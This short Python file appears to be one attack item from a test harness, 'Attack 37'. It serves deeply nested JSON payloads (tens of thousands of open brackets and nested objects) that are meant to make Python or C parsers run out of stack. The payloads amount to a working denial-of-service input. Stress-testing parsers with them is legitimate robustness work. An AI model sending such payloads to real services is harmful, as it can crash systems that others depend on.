"""Attack 37: JSON so deep that a parser in Python or in C runs out of stack."""

from attacker import serve

LINES = (b"[" * 60_000, b'{"id":' * 10_000, b'{"id":1,"cells":' + b"[" * 30_000 + b"]" * 30_000 + b"}")

serve(lambda message: LINES[message["view"]["seat"]])
